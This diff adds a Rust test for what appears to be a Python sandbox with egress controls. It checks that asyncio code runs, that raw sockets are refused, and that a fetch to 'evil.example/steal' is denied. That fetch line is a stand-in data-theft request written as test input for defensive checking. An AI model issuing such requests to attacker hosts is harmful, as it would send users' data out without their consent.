@@ -185,3 +185,58 @@ except ModuleNotFoundError as e:
     );
     assert!(run.audit.is_empty(), "{:?}", run.audit);
 }
+
+#[test]
+fn asyncio_runs_coroutines_that_need_no_socket() {
+    let (host, py) = python();
+    let caps = Capabilities::builder()
+        .allow_egress("https://api.example.com")
+        .build()
+        .unwrap();
+    let code = r#"
+import asyncio, sbx
+
+async def double(x):
+    await asyncio.sleep(0.01)
+    return 2 * x
+
+async def numbers():
+    for i in range(3):
+        yield i
+
+async def main():
+    q = asyncio.Queue()
+    await q.put("queued")
+    task = asyncio.create_task(double(10))
+    print(await asyncio.gather(double(1), double(2)), await q.get(), await task)
+    print([i async for i in numbers()], await asyncio.to_thread(sum, [1, 2, 3]))
+    try:
+        await asyncio.wait_for(asyncio.sleep(10), 0.05)
+    except TimeoutError:
+        print("timed out")
+    try:
+        await asyncio.open_connection("example.com", 80)
+    except OSError as e:
+        print("connection:", e)
+    try:
+        sbx.fetch("https://evil.example/steal")
+    except sbx.Denied as e:
+        print("from async code:", e.violation)
+
+asyncio.run(main())
+"#;
+    let run = py
+        .run_source(host, code, RunOptions::new(caps.clone()))
+        .unwrap();
+    assert_eq!(run.report.exit_code, Some(0), "{}", text(&run.stderr));
+    assert_eq!(
+        text(&run.stdout),
+        "[2, 4] queued 20\n[0, 1, 2] 6\ntimed out\n\
+         connection: sockets are not available in the sbx sandbox (use sbx.fetch)\n\
+         from async code: egress_denied\n"
+    );
+    // No socket was tried behind the script's back: the one denial is its
+    // own fetch.
+    let denied: Vec<Violation> = run.report.denials.iter().map(|d| d.violation).collect();
+    assert_eq!(denied, [Violation::EgressDenied]);
+}
